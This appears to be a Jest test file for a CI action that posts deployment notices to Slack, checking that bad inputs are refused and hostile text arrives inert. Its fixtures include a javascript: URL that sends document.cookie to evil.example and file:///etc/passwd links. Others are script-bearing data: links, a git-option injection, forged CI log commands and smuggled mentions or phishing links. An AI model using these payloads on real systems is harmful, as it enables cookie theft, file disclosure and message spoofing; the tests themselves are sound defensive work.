/**
 * The bad-input catalog of notify: every row runs the built action against the Slack stand-in and
 * must be refused (exit 1) with a message that names the input and the fix, with nothing received
 * by Slack and no secret in the log, the outputs or the summary. A second table holds the hostile
 * text and links that are not refused but must arrive inert: a failure must still be announced.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { runAction, unmaskedLines, type ActionResult } from '../../standins/run-action.js';
import { startSlackServer, type SlackRequest, type SlackServer } from '../../standins/slack-server.js';
import { deployedService, deployment, migration, pushEvent } from '../notify/fixtures.js';
import { expectRefused, failureText, type CatalogCase } from './catalog.js';

interface NotifyCase extends CatalogCase {
  /** Values of this row that must not appear unmasked anywhere (beyond the stand-in's own secrets). */
  secrets?: string[];
}

let slack: SlackServer;
beforeAll(async () => {
  slack = await startSlackServer();
});
afterAll(() => slack.close());

/** `{webhook}`, `{generic}`, `{token}`, `{api}` and `{url}` stand for the stand-in's webhook URLs, bot token, API URL and base URL. */
function fill(value: string): string {
  return value
    .replace(/\{webhook\}/g, slack.webhookUrl)
    .replace(/\{generic\}/g, slack.genericUrl)
    .replace(/\{token\}/g, slack.token)
    .replace(/\{api\}/g, slack.apiUrl)
    .replace(/\{url\}/g, slack.url)
    .replace(/\{host\}/g, new URL(slack.url).host);
}

function run(inputs: Record<string, string>, event: Record<string, unknown> = pushEvent()): Promise<ActionResult> {
  return runAction('notify', { event, inputs: Object.fromEntries(Object.entries(inputs).map(([name, value]) => [name, fill(value)])) });
}

function expectNoSecret(result: ActionResult, secrets: string[]): void {
  for (const secret of [...slack.secrets, ...secrets]) {
    expect({ secret, lines: unmaskedLines(result.log, secret) }).toEqual({ secret, lines: [] });
    expect(result.summary).not.toContain(secret);
    expect(Object.values(result.outputs).join('\n')).not.toContain(secret);
  }
}

const webhook = { 'webhook-url': '{webhook}', status: 'success' };
const bot = { 'slack-bot-token': '{token}', 'slack-channel': 'C0DEPLOYS1', 'slack-api-url': '{api}', status: 'success' };
const FAKE_TOKEN = 'xoxb-1111111111-2222222222-NotARealTokenButSecret';
const NEEDS_FIX = 'toJSON(needs)';
const MENTION_FIX = '<@U0123ABCD> for a person';
const DEPLOY_FIX = 'Pass the "result" output of the deploy-ecs step unchanged';

const refused: NotifyCase[] = [
  // Where to send
  { name: 'neither a webhook URL nor a bot token', inputs: { status: 'success' }, says: ['Input "webhook-url" or "slack-bot-token" is required', 'webhook-url: ${{ secrets.SLACK_WEBHOOK_URL }}'] },
  { name: 'both a webhook URL and a bot token', inputs: { ...bot, 'webhook-url': '{webhook}' }, says: ['Inputs "webhook-url" and "slack-bot-token" are both set; give one.', 'Use "webhook-url" for an incoming webhook'] },
  {
    name: 'a webhook URL without a scheme',
    inputs: { ...webhook, 'webhook-url': 'hooks.slack.com/services/T0/B0/abcdef' },
    says: ['Input "webhook-url" is not a valid URL (it does not start with https://).', 'Set "webhook-url" to a URL such as https://hooks.slack.com/services/'],
    secrets: ['T0/B0/abcdef'],
  },
  {
    name: 'an ftp: webhook URL',
    inputs: { ...webhook, 'webhook-url': 'ftp://hooks.example.test/services/T0/B0/ftp-secret' },
    says: ['Input "webhook-url" has the scheme "ftp:"; messages are posted to https URLs only.', 'Set "webhook-url" to a URL such as https://'],
    secrets: ['ftp-secret'],
  },
  {
    name: 'a javascript: webhook URL',
    inputs: { ...webhook, 'webhook-url': 'javascript:fetch(`//evil.example/${document.cookie}`)' },
    says: ['Input "webhook-url" has the scheme "javascript:"', 'Set "webhook-url" to a URL such as https://'],
  },
  { name: 'a file: webhook URL', inputs: { ...webhook, 'webhook-url': 'file:///etc/passwd' }, says: ['Input "webhook-url" has the scheme "file:"', 'Set "webhook-url" to a URL such as https://'] },
  {
    name: 'a webhook URL with a user name and password',
    inputs: { ...webhook, 'webhook-url': 'https://deployer:pa55-w0rd-x@hooks.slack.com/services/T0/B0/abcdef' },
    says: ['Input "webhook-url" has a user name and password in it (user:password@host).', 'Remove the "user:password@" part'],
    secrets: ['pa55-w0rd-x', 'deployer:'],
  },
  {
    name: 'a webhook URL with a user name (a token) before the host',
    inputs: { ...webhook, 'webhook-url': 'https://ghp_abcdefghijklmnop@hooks.example.test/hook' },
    says: ['Input "webhook-url" has a user name in it (user:password@host).', 'Remove the "user:password@" part'],
    secrets: ['ghp_abcdefghijklmnop'],
  },
  {
    name: 'a plain http webhook URL to another host',
    inputs: { ...webhook, 'webhook-url': 'http://hooks.example.test/services/T0/B0/http-secret' },
    says: ['Input "webhook-url" is a plain http URL to hooks.example.test: the webhook URL (a secret) and the message would cross the network unencrypted.', 'Use https://'],
    secrets: ['http-secret'],
  },
  {
    name: 'a plain http webhook URL to a private address',
    inputs: { ...webhook, 'webhook-url': 'http://192.168.1.20:8065/hooks/mm-secret', format: 'generic' },
    says: ['Input "webhook-url" is a plain http URL to 192.168.1.20', 'loopback address (127.0.0.0/8 or [::1])'],
    secrets: ['mm-secret'],
  },
  {
    name: 'a plain http webhook URL to "localhost", a name',
    inputs: { ...webhook, 'webhook-url': 'http://localhost:9/services/T0/B0/local-secret' },
    says: ['Input "webhook-url" is a plain http URL to "localhost", a name rather than an address', 'http://127.0.0.1:<port>/'],
    secrets: ['local-secret'],
  },
  {
    name: 'a webhook URL with spaces around pasted text',
    inputs: { ...webhook, 'webhook-url': 'URL: https://hooks.slack.com/services/T0/B0/abcdef' },
    says: ['Input "webhook-url" contains spaces or line breaks, so it is not a URL.', 'Copy it again without surrounding text'],
    secrets: ['T0/B0/abcdef'],
  },
  { name: 'a webhook URL with a line break inside', inputs: { ...webhook, 'webhook-url': 'https://hooks.slack.com/services/T0/B0/\nabcdef' }, says: ['Input "webhook-url" contains spaces or line breaks', 'Copy it again'] },
  {
    name: 'a Slack Workflow Builder URL as the webhook',
    inputs: { ...webhook, 'webhook-url': 'https://hooks.slack.com/triggers/T0BERTH01/1234567890/wf-secret' },
    says: ['Input "webhook-url" is a Slack Workflow Builder webhook', 'https://hooks.slack.com/services/', 'format: generic'],
    secrets: ['wf-secret'],
  },
  { name: 'a bot token in the webhook URL input', inputs: { ...webhook, 'webhook-url': FAKE_TOKEN }, says: ['Input "webhook-url" holds a Slack token, not a URL.', 'Pass a bot token as "slack-bot-token"'], secrets: [FAKE_TOKEN] },
  // The bot token
  {
    name: 'an app-level token (xapp-)',
    inputs: { ...bot, 'slack-bot-token': 'xapp-1-A0123-4567-appsecret' },
    says: ['Input "slack-bot-token" is an app-level token (xapp-…), which cannot post messages.', 'Bot User OAuth Token'],
    secrets: ['xapp-1-A0123-4567-appsecret'],
  },
  { name: 'a refresh token (xoxe-)', inputs: { ...bot, 'slack-bot-token': 'xoxe-1-refreshsecret' }, says: ['Input "slack-bot-token" is a refresh token (xoxe-…)', 'Bot User OAuth Token'], secrets: ['xoxe-1-refreshsecret'] },
  { name: 'a webhook URL in the token input', inputs: { ...bot, 'slack-bot-token': '{webhook}' }, says: ['Input "slack-bot-token" holds a URL, not a token.', 'Pass an incoming webhook URL as "webhook-url"'] },
  { name: 'a token with "Bearer " in front', inputs: { ...bot, 'slack-bot-token': `Bearer ${FAKE_TOKEN}` }, says: ['Input "slack-bot-token" starts with "Bearer ".', 'Pass the token alone'], secrets: [FAKE_TOKEN] },
  {
    name: 'a token with a line break inside',
    inputs: { ...bot, 'slack-bot-token': 'xoxb-1111111111-\n2222222222-linebroken' },
    says: ['Input "slack-bot-token" contains spaces or line breaks.', 'Copy the bot token'],
    secrets: ['2222222222-linebroken'],
  },
  {
    name: 'something that is not a Slack token',
    inputs: { ...bot, 'slack-bot-token': '8f14e45fceea167a5a36dedd4bea2543' },
    says: ['Input "slack-bot-token" is not a Slack token', 'Bot User OAuth Token'],
    secrets: ['8f14e45fceea167a5a36dedd4bea2543'],
  },
  { name: 'a bot token without a channel', inputs: { 'slack-bot-token': '{token}', 'slack-api-url': '{api}', status: 'success' }, says: ['Input "slack-channel" is required but was not given.', 'slack-channel: C0123456789'] },
  // Channel and message-ts
  {
    name: 'a channel name with message-ts (chat.update needs the ID)',
    inputs: { ...bot, 'slack-channel': '#deploys', 'message-ts': '1712345678.000100' },
    says: ['Input "slack-channel" is "#deploys", a channel name; updating a message ("message-ts") needs the channel ID.', 'steps.notify.outputs.channel'],
  },
  { name: 'a channel link as Slack writes it', inputs: { ...bot, 'slack-channel': '<#C0DEPLOYS1|deploys>' }, says: ['Input "slack-channel" is "<#C0DEPLOYS1|deploys>", a channel link', 'slack-channel: C0DEPLOYS1'] },
  { name: 'a link to the channel', inputs: { ...bot, 'slack-channel': 'https://acme.slack.com/archives/C0DEPLOYS1' }, says: ['a link to the channel', 'slack-channel: C0DEPLOYS1'] },
  { name: 'a channel with a space in it', inputs: { ...bot, 'slack-channel': '#deploys prod' }, says: ['Input "slack-channel" is "#deploys prod", which has spaces or line breaks', 'e.g. C0123456789'] },
  { name: 'a message-ts that is not a timestamp', inputs: { ...bot, 'message-ts': 'yesterday' }, says: ['Input "message-ts" is "yesterday", which is not a Slack message timestamp', 'Pass the "ts" output of the notify step'] },
  { name: 'a message-ts in permalink form', inputs: { ...bot, 'message-ts': 'p1712345678000100' }, says: ['Input "message-ts" is "p1712345678000100"', 'its "ts" is 1712345678.000100'] },
  { name: 'a message-ts with a webhook', inputs: { ...webhook, 'message-ts': '1712345678.000100' }, says: ['Input "message-ts" needs "slack-bot-token"', 'Post with a bot token'] },
  // The Web API URL the token goes to
  {
    name: 'a plain http API URL to another host',
    inputs: { ...bot, 'slack-api-url': 'http://slack-proxy.internal/api' },
    says: ['Input "slack-api-url" is a plain http URL to slack-proxy.internal: the bot token and the message would cross the network unencrypted.', 'Use https://'],
  },
  {
    name: 'an API URL with a user name and password',
    inputs: { ...bot, 'slack-api-url': 'https://admin:api-pa55@slack.com/api' },
    says: ['Input "slack-api-url" has a user name and password in it (user:password@host).', 'Authorization header'],
    secrets: ['api-pa55'],
  },
  {
    name: 'an API URL with the method on the end',
    inputs: { ...bot, 'slack-api-url': 'https://slack.com/api/chat.postMessage' },
    says: ['Input "slack-api-url" ends in the method "chat.postMessage"', 'Set it to https://slack.com/api'],
  },
  { name: 'a javascript: API URL', inputs: { ...bot, 'slack-api-url': 'javascript:alert(1)' }, says: ['Input "slack-api-url" has the scheme "javascript:"', 'https://slack.com/api'] },
  // Options
  { name: 'format generic with a bot token', inputs: { ...bot, format: 'generic' }, says: ['Input "format" is "generic", which applies to "webhook-url" only.', 'Remove "format"'] },
  { name: 'an unknown format', inputs: { ...webhook, format: 'markdown' }, says: ['Input "format" is "markdown", which is not one of: slack, generic.', 'Set "format"'] },
  { name: 'an unknown status', inputs: { ...webhook, status: 'done' }, says: ['Input "status" is "done", which is not one of: started, success, failure, cancelled, skipped.', 'Set "status"'] },
  { name: 'a status spelled as an outcome', inputs: { ...webhook, status: 'succeeded' }, says: ['Input "status" is "succeeded", which is not one of', 'Set "status"'] },
  { name: 'negative retries', inputs: { ...webhook, retries: '-1' }, says: ['Input "retries" is "-1", which is not a whole number from 0 to 10.', 'Set "retries"'] },
  { name: 'too many retries', inputs: { ...webhook, retries: '11' }, says: ['Input "retries" is "11", which is not a whole number from 0 to 10.', 'Set "retries"'] },
  { name: 'retries in words', inputs: { ...webhook, retries: 'three' }, says: ['Input "retries" is "three"', 'Set "retries"'] },
  { name: 'fail-on-error that is not a boolean', inputs: { ...webhook, 'fail-on-error': 'maybe' }, says: ['Input "fail-on-error" is "maybe", which is not a boolean (true or false).', 'Set "fail-on-error"'] },
  {
    name: 'nothing that says how it went',
    inputs: { 'webhook-url': '{webhook}', changes: JSON.stringify({ services: ['api'] }) },
    says: ['Input "status" is empty, and neither "needs" nor a "deployment" or "migration" result says how the deployment went.', 'status: ${{ job.status }}'],
  },
  // needs
  { name: 'needs that is not JSON', inputs: { 'webhook-url': '{webhook}', needs: '{build: success}' }, says: ['Input "needs" is not valid JSON', 'Pass the value through unchanged'] },
  {
    name: 'needs of a job that needs no other job',
    inputs: { 'webhook-url': '{webhook}', needs: '{}' },
    says: ['Input "status" is empty, and neither "needs" nor a "deployment" or "migration" result says how the deployment went.', 'needs: ${{ toJSON(needs) }}'],
  },
  { name: 'needs as an array', inputs: { 'webhook-url': '{webhook}', needs: '["build", "deploy"]' }, says: ['Input "needs" is an array, not the needs context', NEEDS_FIX] },
  { name: 'needs of a single job', inputs: { 'webhook-url': '{webhook}', needs: JSON.stringify({ result: 'success', outputs: {} }) }, says: ['Input "needs" holds a single job', NEEDS_FIX] },
  { name: 'a needs entry without a result', inputs: { 'webhook-url': '{webhook}', needs: JSON.stringify({ build: 'success' }) }, says: ['Input "needs" has an entry "build" with no "result" string', NEEDS_FIX] },
  {
    name: 'a job result GitHub never gives',
    inputs: { 'webhook-url': '{webhook}', needs: JSON.stringify({ build: { result: 'success' }, deploy: { result: 'succeeded' } }) },
    says: ['Input "needs": job "deploy" has result "succeeded", which GitHub never gives; a job\'s result is success, failure, cancelled or skipped.', NEEDS_FIX],
  },
  { name: 'a job result in capitals', inputs: { 'webhook-url': '{webhook}', needs: JSON.stringify({ deploy: { result: 'FAILURE' } }) }, says: ['Input "needs": job "deploy" has result "FAILURE"', NEEDS_FIX] },
  {
    name: 'a job name carrying a mention',
    inputs: { 'webhook-url': '{webhook}', needs: JSON.stringify({ '<!here> deploy': { result: 'failure' } }) },
    says: ['Input "needs" has an entry "<!here> deploy", which is not a job ID', NEEDS_FIX],
  },
  // deployment, migration, builds, changes
  { name: 'a deployment that is not JSON', inputs: { ...webhook, deployment: '{"outcome":"deployed",' }, says: ['Input "deployment" is not valid JSON', 'Pass the value through unchanged'] },
  { name: 'a migration that is not JSON', inputs: { ...webhook, migration: "{status: 'failed'}" }, says: ['Input "migration" is not valid JSON', 'Pass the value through unchanged'] },
  { name: 'builds that are not JSON', inputs: { ...webhook, builds: 'api=123456789012.dkr.ecr.us-east-1.amazonaws.com/shop-api:1' }, says: ['Input "builds" is not valid JSON', 'Pass the value through unchanged'] },
  { name: 'changes that are not JSON', inputs: { ...webhook, changes: 'api,web' }, says: ['Input "changes" is not valid JSON', 'Pass the value through unchanged'] },
  { name: 'a deployment as an array', inputs: { ...webhook, deployment: '[1, 2]' }, says: ['Input "deployment" is an array, not the result of deploy-ecs', DEPLOY_FIX] },
  { name: 'deployment services that are not an array', inputs: { ...webhook, deployment: JSON.stringify({ outcome: 'deployed', services: { api: {} } }) }, says: ['Input "deployment" has "services" as an object', DEPLOY_FIX] },
  {
    name: 'a deployed service that is a number',
    inputs: { ...webhook, deployment: JSON.stringify({ outcome: 'deployed', services: [42] }) },
    says: ['Input "deployment": services item 0 is a number, not a deployed service.', DEPLOY_FIX],
  },
  {
    name: 'a deployed service without a name',
    inputs: { ...webhook, deployment: JSON.stringify({ outcome: 'deployed', services: [{ outcome: 'deployed' }] }) },
    says: ['Input "deployment": services item 0 names no service.', DEPLOY_FIX],
  },
  {
    name: 'a deployment outcome deploy-ecs never writes',
    inputs: { ...webhook, deployment: JSON.stringify({ outcome: 'success', services: [] }) },
    says: ['Input "deployment": "outcome" is "success", which is not one of: deployed, rolled-back, failed.', DEPLOY_FIX],
  },
  {
    name: 'a service outcome deploy-ecs never writes',
    inputs: { ...webhook, deployment: JSON.stringify(deployment([deployedService('api', 'ok')])) },
    says: ['Input "deployment": services[0].outcome (service "api") is "ok", which is not one of: deployed, rolled-back, failed.', DEPLOY_FIX],
  },
  { name: 'a migration that is a string', inputs: { ...webhook, migration: '"succeeded"' }, says: ['Input "migration" is a string, not the result of migrate', 'Pass the "result" output of the migrate step unchanged'] },
  {
    name: 'a migration status migrate never writes',
    inputs: { ...webhook, migration: JSON.stringify(migration('done')) },
    says: ['Input "migration": "status" is "done", which is not one of: succeeded, failed, timed-out, cancelled.', 'Pass the "result" output of the migrate step unchanged'],
  },
  { name: 'builds holding a number', inputs: { ...webhook, builds: '[1]' }, says: ['Input "builds": item 0 is a number, not a build-push result.', 'Pass the "result" output of build-push as it is'] },
  { name: 'a build without a service', inputs: { ...webhook, builds: JSON.stringify([{ image: 'r/shop:1' }]) }, says: ['Input "builds": item 0 names no service.', 'it carries "service"'] },
  {
    name: 'changes without services',
    inputs: { ...webhook, changes: JSON.stringify({ head: '0123456789abcdef0123456789abcdef01234567' }) },
    says: ['Input "changes" is an object with keys "head", not the result of changes', 'Pass the "result" output of the changes step unchanged'],
  },
  {
    name: 'a changes head that is an option for git',
    inputs: { ...webhook, changes: JSON.stringify({ head: '--output=/tmp/planted', services: ['api'] }) },
    says: ['Input "changes": "head" is "--output=/tmp/planted", which is not a commit SHA.', 'Pass the "result" output of the changes step unchanged'],
  },
  {
    name: 'a changes base carrying markup',
    inputs: { ...webhook, changes: JSON.stringify({ base: 'main|<!channel>', services: ['api'] }) },
    says: ['Input "changes": "base" is "main|<!channel>", which is not a commit SHA.', 'Pass the "result" output of the changes step unchanged'],
  },
  // mention-on-failure
  {
    name: 'a mention followed by a link',
    inputs: { ...webhook, status: 'failure', 'mention-on-failure': '<!channel> <https://evil.example/login|Log in again>' },
    says: ['Input "mention-on-failure" has "<https://evil.example/login|Log in again>", a link or markup, not a mention.', MENTION_FIX],
  },
  { name: 'a person by name', inputs: { ...webhook, status: 'failure', 'mention-on-failure': '@alice' }, says: ['Input "mention-on-failure" has "@alice", a name', MENTION_FIX] },
  { name: 'a member ID that is a name', inputs: { ...webhook, status: 'failure', 'mention-on-failure': '<@alice>' }, says: ['Input "mention-on-failure" has "<@alice>", which is not a member ID', MENTION_FIX] },
  { name: 'a user group by name', inputs: { ...webhook, status: 'failure', 'mention-on-failure': '<!subteam^oncall>' }, says: ['Input "mention-on-failure" has "<!subteam^oncall>", which is not a user-group ID', MENTION_FIX] },
  { name: 'a user group without angle brackets', inputs: { ...webhook, status: 'failure', 'mention-on-failure': '!subteam^S0ONCALL1' }, says: ['which needs angle brackets: <!subteam^S0ONCALL1>', MENTION_FIX] },
  {
    name: 'a mention whose label is a link',
    inputs: { ...webhook, status: 'failure', 'mention-on-failure': '<!here|<https://evil.example|x>>' },
    says: ['Input "mention-on-failure" has "<!here|", which opens "<" without closing it.', MENTION_FIX],
  },
  {
    name: 'a mention whose label is markup',
    inputs: { ...webhook, status: 'failure', 'mention-on-failure': '<@U0123ABCD|*urgent* & now>' },
    says: ['Input "mention-on-failure" has "<@U0123ABCD|*urgent* & now>", whose label (after "|") is not a plain name.', MENTION_FIX],
  },
  { name: 'a channel link as the mention', inputs: { ...webhook, status: 'failure', 'mention-on-failure': '<#C0DEPLOYS1>' }, says: ['Input "mention-on-failure" has "<#C0DEPLOYS1>", a channel link, not a mention.', MENTION_FIX] },
  {
    name: 'a mention with a line break and a log command',
    inputs: { ...webhook, status: 'failure', 'mention-on-failure': '@here\n::error::forged' },
    says: ['Input "mention-on-failure" has "::error::forged", which is not a Slack mention.', MENTION_FIX],
  },
];

describe('notify refuses bad input before sending anything', () => {
  it.each(refused.map((row) => [row.name, row] as const))('%s', async (_, row) => {
    const before = slack.requests.length;
    const result = await run(row.inputs);
    expectRefused(result, row.says);
    expect(slack.requests.slice(before)).toEqual([]);
    expectNoSecret(result, row.secrets ?? []);
    // A refusal is the only error, and no forged log command got through.
    expect(result.stdout.split('\n').filter((line) => line.startsWith('::error'))).toHaveLength(1);
  });

  it('has a row for every category, and at least 35 rows', () => {
    expect(refused.length).toBeGreaterThanOrEqual(35);
    expect(new Set(refused.map((row) => row.name)).size).toBe(refused.length);
  });
});

/** Hostile text and links that do not stop the message: they must arrive as plain text, or not at all. */
interface InertCase {
  name: string;
  inputs: Record<string, string>;
  /** Warnings the run must give: the input and the field. */
  warns?: string[];
  /** Text that must not reach Slack in any form. */
  never: (string | RegExp)[];
}

const HOSTILE = '<!channel> <https://evil.example/x|Click> <@U0SMUGGLE1> @here &amp;\n::error::forged';
const failed = (extra: Record<string, unknown> = {}) => JSON.stringify(deployment([deployedService('api', 'failed', 12, extra)]));
const LIVE_MARKUP = [/<!(channel|here|everyone)/, /<@U0SMUGGLE1/, /<https:\/\/evil/, /(^|[^\w])@(here|channel|everyone)\b/, /\n::error::forged/];

const inert: InertCase[] = [
  { name: 'a title with a mention, a link and a log command', inputs: { status: 'failure', title: `Release ${HOSTILE}` }, never: LIVE_MARKUP },
  { name: 'an environment with a mention, a link and a log command', inputs: { status: 'failure', environment: `prod ${HOSTILE}` }, never: LIVE_MARKUP },
  { name: 'a failure reason with a mention, a link and a log command', inputs: { status: 'failure', deployment: failed({ reason: `exit 1: ${HOSTILE}` }) }, never: LIVE_MARKUP },
  { name: 'a service name with a mention and a link', inputs: { status: 'failure', deployment: JSON.stringify(deployment([deployedService(`api ${HOSTILE}`, 'failed')])) }, never: LIVE_MARKUP },
  { name: 'a migration reason and service with a mention and a link', inputs: { status: 'failure', migration: JSON.stringify(migration('failed', { service: `db ${HOSTILE}`, reason: `P3009 ${HOSTILE}` })) }, never: LIVE_MARKUP },
  { name: "a build's service name with a mention and a link", inputs: { status: 'failure', builds: JSON.stringify([{ service: `web ${HOSTILE}`, image: 'r/web:1' }]) }, never: LIVE_MARKUP },
  {
    name: 'a javascript: console link',
    inputs: { status: 'failure', deployment: failed({ consoleUrl: 'javascript:alert(document.cookie)' }) },
    warns: ['Input "deployment": services[0].consoleUrl (service "api") is a javascript: link, not http(s); the message leaves that link out.'],
    never: ['javascript:'],
  },
  {
    name: 'a data: console link',
    inputs: { status: 'failure', deployment: failed({ consoleUrl: 'data:text/html,<script>alert(1)</script>' }) },
    warns: ['Input "deployment": services[0].consoleUrl (service "api") is a data: link, not http(s)'],
    never: ['data:', '<script'],
  },
  {
    name: 'a slack: deep link as a console link',
    inputs: { status: 'failure', deployment: failed({ consoleUrl: 'slack://channel?team=T0&id=C0' }) },
    warns: ['Input "deployment": services[0].consoleUrl (service "api") is a slack: link, not http(s)'],
    never: ['slack://'],
  },
  {
    name: 'a console link with a password in it',
    inputs: { status: 'failure', deployment: failed({ consoleUrl: 'https://user:hunter2@console.example/x' }) },
    warns: ['Input "deployment": services[0].consoleUrl (service "api") has a user name or password in it'],
    never: ['hunter2'],
  },
  {
    name: 'a console link that is not a URL',
    inputs: { status: 'failure', deployment: failed({ consoleUrl: 'see the console|<!channel>' }) },
    warns: ['Input "deployment": services[0].consoleUrl (service "api") is not a URL'],
    never: [/<!channel/],
  },
  {
    name: 'a file: link to the migration task',
    inputs: { status: 'failure', migration: JSON.stringify(migration('failed', { consoleUrl: 'file:///etc/passwd' })) },
    warns: ['Input "migration": "consoleUrl" is a file: link, not http(s)'],
    never: ['file:'],
  },
];

/**
 * Every text of a Slack request that Slack parses: the notification text, each mrkdwn text object
 * and each button URL. A plain_text object (the header) is shown as it is, never parsed.
 */
function slackTexts(request: SlackRequest): string[] {
  const texts: string[] = typeof request.body.text === 'string' ? [request.body.text] : [];
  const visit = (value: unknown) => {
    if (Array.isArray(value)) value.forEach(visit);
    else if (value && typeof value === 'object') {
      const object = value as Record<string, unknown>;
      if (object.type === 'plain_text') return;
      for (const key of ['text', 'url']) if (typeof object[key] === 'string') texts.push(object[key] as string);
      Object.values(object).forEach(visit);
    }
  };
  visit(request.body.blocks);
  return texts;
}

/** Markdown as a reader sees the markup in it: backslash-escaped characters are text, so they are left out. */
const unescaped = (markdown: string) => markdown.replace(/\\./g, '');

function expectNone(text: string, never: InertCase['never']): void {
  for (const pattern of never) {
    if (typeof pattern === 'string') expect(text).not.toContain(pattern);
    else expect(text).not.toMatch(pattern);
  }
}

describe('notify delivers hostile text and bad links inert', () => {
  it.each(inert.flatMap((row) => (['slack', 'generic'] as const).map((format) => [`${row.name} (${format})`, row, format] as const)))('%s', async (_, row, format) => {
    const before = slack.requests.length;
    const result = await run({ 'webhook-url': format === 'slack' ? '{webhook}' : '{generic}', format, ...row.inputs });
    expect({ code: result.code, sent: result.outputs.sent, error: failureText(result) }).toEqual({ code: 0, sent: 'true', error: '' });
    const warnings = result.stdout
      .split('\n')
      .filter((line) => line.startsWith('::warning'))
      .join('\n');
    for (const warning of row.warns ?? []) expect(warnings).toContain(warning);
    const requests = slack.requests.slice(before);
    expect(requests).toHaveLength(1);
    // The announcement itself arrives: a failure is never lost to a bad field.
    expect(JSON.stringify(requests[0]!.body)).toMatch(/Deployment failed|Release .*failed/);
    const texts = format === 'slack' ? slackTexts(requests[0]!) : [String(requests[0]!.body.text), String(requests[0]!.body.content)].map(unescaped);
    expect(texts.length).toBeGreaterThan(1);
    for (const text of texts) expectNone(text, row.never);
    expectNone(unescaped(result.summary), row.never);
    expect(result.stdout.split('\n').filter((line) => line.startsWith('::error'))).toEqual([]);
    expectNoSecret(result, []);
  });
});
